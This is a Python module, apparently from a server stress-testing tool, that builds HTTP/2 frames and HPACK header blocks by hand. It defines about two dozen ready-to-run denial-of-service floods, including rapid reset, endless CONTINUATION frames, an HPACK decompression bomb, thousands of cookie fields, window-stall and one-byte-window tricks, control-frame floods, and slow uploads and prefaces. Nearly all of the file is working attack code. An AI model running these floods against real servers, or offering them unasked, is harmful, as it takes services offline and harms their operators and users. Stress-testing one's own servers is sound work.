"""Floods of HTTP/2 frames."""

from __future__ import annotations

import asyncio
import struct

from flood_kinds.http1 import BLOCK, repeated
from flood_kinds.kinds import HTTP2, TLS, flood
from flood_kinds.link import Link

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING = range(6)
GOAWAY, WINDOW_UPDATE, CONTINUATION = 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW = 65535
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113 §4.1)."""
    size = struct.pack("!I", len(payload))[1:]
    return size + struct.pack("!BBI", kind, flags, stream) + payload


def settings(**values: int) -> bytes:
    """Return SETTINGS; the names are ``s`` and the number of the setting."""
    pairs = (struct.pack("!HI", int(key[1:]), value) for key, value in values.items())
    return frame(SETTINGS, 0, 0, b"".join(pairs))


def string(value: bytes) -> bytes:
    """Return a string literal of HPACK without Huffman coding (RFC 7541 §5.2)."""
    size = len(value)
    if size < 127:
        return bytes((size,)) + value
    size -= 127
    prefix = b"\x7f"
    while size >= 128:
        prefix += bytes((size % 128 + 128,))
        size //= 128
    return prefix + bytes((size,)) + value


def head(path: bytes, method: bytes = b"GET", *fields: tuple[bytes, bytes]) -> bytes:
    """Return a header block that uses no dynamic table."""
    block = b"\x82" if method == b"GET" else b"\x83"
    block += b"\x87\x01" + string(b"app.example.com") + b"\x04" + string(path)
    return block + b"".join(b"\x00" + string(n) + string(v) for n, v in fields)


class H2Link:
    """The frames of a connection; counts the windows that the server grants."""

    def __init__(self, link: Link) -> None:
        self.link = link
        self.next = 1
        self.window = INITIAL_WINDOW
        self.stream_window: dict[int, int] = {}
        self._first_window = INITIAL_WINDOW
        self._buffer = b""
        link.on_data = self._receive

    async def start(self, **values: int) -> None:
        """Send the preface and SETTINGS."""
        await self.link.send(PREFACE + settings(**values) + frame(SETTINGS, ACK, 0))

    async def request(
        self, path: bytes, method: bytes = b"GET", *, ends: bool = True
    ) -> int:
        """Send the head of a request; return its stream."""
        stream, self.next = self.next, self.next + 2
        flags = END_HEADERS | (END_STREAM if ends else 0)
        self.stream_window[stream] = self._first_window
        await self.link.send(frame(HEADERS, flags, stream, head(path, method)))
        return stream

    async def data(self, stream: int, frames: int) -> None:
        """Send DATA frames of one byte as far as the windows allow."""
        allowed = min(frames, self.window, self.stream_window.get(stream, 0))
        if allowed <= 0:
            await self.link.changed()
            return
        self.window -= allowed
        self.stream_window[stream] -= allowed
        await self.link.send(frame(DATA, 0, stream, b"x") * allowed)

    def _receive(self, data: bytes) -> None:
        self._buffer += data
        while len(self._buffer) >= 9:
            size = int.from_bytes(self._buffer[:3])
            if len(self._buffer) < 9 + size:
                return
            kind, flags = self._buffer[3], self._buffer[4]
            stream = int.from_bytes(self._buffer[5:9])
            payload = self._buffer[9 : 9 + size]
            self._buffer = self._buffer[9 + size :]
            if kind == WINDOW_UPDATE:
                increment = int.from_bytes(payload)
                if stream == 0:
                    self.window += increment
                elif stream in self.stream_window:
                    self.stream_window[stream] += increment
            elif kind == SETTINGS and not flags & ACK:
                for number, value in struct.iter_unpack("!HI", payload):
                    if number == 4:
                        self._first_window = value


async def _frames(link: Link, data: bytes) -> None:
    """Send frames of the connection at speed."""
    await H2Link(link).start()
    while True:
        await link.send(repeated(data))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_window_updates(link: Link) -> None:
    """WINDOW_UPDATE of the connection at speed."""
    await _frames(link, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_stream_window_updates(link: Link) -> None:
    """WINDOW_UPDATE of a stream at speed."""
    connection = H2Link(link)
    await connection.start()
    stream = await connection.request(b"/public/upload", b"POST", ends=False)
    while True:
        await link.send(repeated(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1")))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_one_byte_data(link: Link) -> None:
    """DATA of one byte on a forwarded stream."""
    connection = H2Link(link)
    await connection.start()
    stream = await connection.request(b"/public/upload", b"POST", ends=False)
    while True:
        await connection.data(stream, BLOCK // 10)


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_one_byte_data_refused(link: Link) -> None:
    """DATA of one byte on streams that the server has refused."""
    connection = H2Link(link)
    await connection.start()
    while True:
        stream = await connection.request(b"/private", b"POST", ends=False)
        for _ in range(20):
            await connection.data(stream, BLOCK // 10)
        await link.send(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_empty_data(link: Link) -> None:
    """DATA without bytes on a forwarded stream."""
    connection = H2Link(link)
    await connection.start()
    stream = await connection.request(b"/public/upload", b"POST", ends=False)
    while True:
        await link.send(repeated(frame(DATA, 0, stream)))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_rapid_reset(link: Link) -> None:
    """Requests that are reset at once."""
    await H2Link(link).start()
    block, stream = head(b"/public/large"), 1
    while True:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            batch += frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        await link.send(batch)


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_server_resets(link: Link) -> None:
    """Requests with a frame that makes the server reset the stream."""
    await H2Link(link).start()
    block, stream = head(b"/public/large"), 1
    while True:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            batch += frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")
            stream += 2
        await link.send(batch)


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_requests(link: Link) -> None:
    """Requests at speed, at most 50 at a time."""
    connection = H2Link(link)
    await connection.start()
    while True:
        for _ in range(50):
            await connection.request(b"/ping")
        await link.changed()


@flood(variant=TLS, against=HTTP2, alpn="h2", is_reader=False)
async def h2_unread(link: Link) -> None:
    """Requests and PINGs at speed; nothing is read."""
    await H2Link(link).start()
    block, stream = head(b"/ping"), 1
    while True:
        batch = frame(PING, 0, 0, bytes(8)) * 100
        for _ in range(20):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            stream += 2
        await link.send(batch)


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_continuation(link: Link) -> None:
    """A header block that never ends, in CONTINUATION frames of 64 bytes."""
    await H2Link(link).start()
    await link.send(frame(HEADERS, END_STREAM, 1, head(b"/ping")))
    field = b"\x00" + string(b"x") + string(b"y" * 60)
    while True:
        await link.send(repeated(frame(CONTINUATION, 0, 1, field)))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_empty_continuation(link: Link) -> None:
    """A header block that never ends, in empty CONTINUATION frames."""
    await H2Link(link).start()
    await link.send(frame(HEADERS, END_STREAM, 1, head(b"/ping")))
    while True:
        await link.send(repeated(frame(CONTINUATION, 0, 1)))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_pings(link: Link) -> None:
    """PING at speed."""
    await _frames(link, frame(PING, 0, 0, bytes(8)))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_settings(link: Link) -> None:
    """SETTINGS at speed that change the size of the header table."""
    await _frames(link, settings(s1=0) + settings(s1=4096))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_priorities(link: Link) -> None:
    """PRIORITY of many streams at speed."""
    await H2Link(link).start()
    stream = 1
    while True:
        batch = b""
        for _ in range(500):
            batch += frame(PRIORITY, 0, stream, struct.pack("!IB", 0, 7))
            stream = stream % 1_000_001 + 2
        await link.send(batch)


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_unknown_frames(link: Link) -> None:
    """Empty frames of an unknown type at speed."""
    await _frames(link, frame(0xBE, 0, 0))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_hpack_bomb(link: Link) -> None:
    """Header blocks of 16 kB that expand to 64 MB."""
    await H2Link(link).start()
    entry = b"\x40" + string(b"x") + string(b"y" * 3900)
    whole = END_HEADERS | END_STREAM
    await link.send(frame(HEADERS, whole, 1, head(b"/ping") + entry))
    stream = 3
    while True:
        block = head(b"/ping")
        block += b"\xbe" * (BLOCK - len(block))
        await link.send(frame(HEADERS, whole, stream, block))
        stream += 2


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_cookie_crumbs(link: Link) -> None:
    """Requests with 5,000 cookie fields of the static table."""
    await H2Link(link).start()
    whole, stream = END_HEADERS | END_STREAM, 1
    block = head(b"/ping") + b"\xa0" * 5000  # index 32: an empty cookie
    while True:
        await link.send(frame(HEADERS, whole, stream, block), requests=1)
        stream += 2


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_closed_windows(link: Link) -> None:
    """100 downloads without a window."""
    connection = H2Link(link)
    await connection.start(s4=0)
    for _ in range(100):
        await connection.request(b"/public/large")
    await link.hold()


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_one_byte_windows(link: Link) -> None:
    """100 downloads with windows of one byte that grow byte by byte."""
    connection = H2Link(link)
    await connection.start(s4=1)
    streams = [await connection.request(b"/public/large") for _ in range(100)]
    grants = [frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in streams]
    while True:
        await link.send(b"".join(grants))


@flood(variant=TLS, against=HTTP2, alpn="h2")
async def h2_changing_windows(link: Link) -> None:
    """SETTINGS at speed that change the windows of 100 stalled downloads."""
    connection = H2Link(link)
    await connection.start(s4=0)
    for _ in range(100):
        await connection.request(b"/public/large")
    while True:
        await link.send(repeated(settings(s4=1) + settings(s4=0)))


@flood(variant=TLS, against=HTTP2, alpn="h2", connections=5)
async def h2_slow_bodies(link: Link) -> None:
    """100 uploads on each connection, one byte per second (5 connections each)."""
    connection = H2Link(link)
    await connection.start()
    streams = []
    for _ in range(100):
        streams.append(await connection.request(b"/public/upload", b"POST", ends=False))
    while True:
        for stream in streams:
            await connection.data(stream, 1)
        await asyncio.sleep(1)


@flood(variant=TLS, against=HTTP2, alpn="h2", connections=20)
async def h2_slow_preface(link: Link) -> None:
    """Connection prefaces of one byte per second (20 connections each)."""
    await link.dribble(PREFACE + settings())
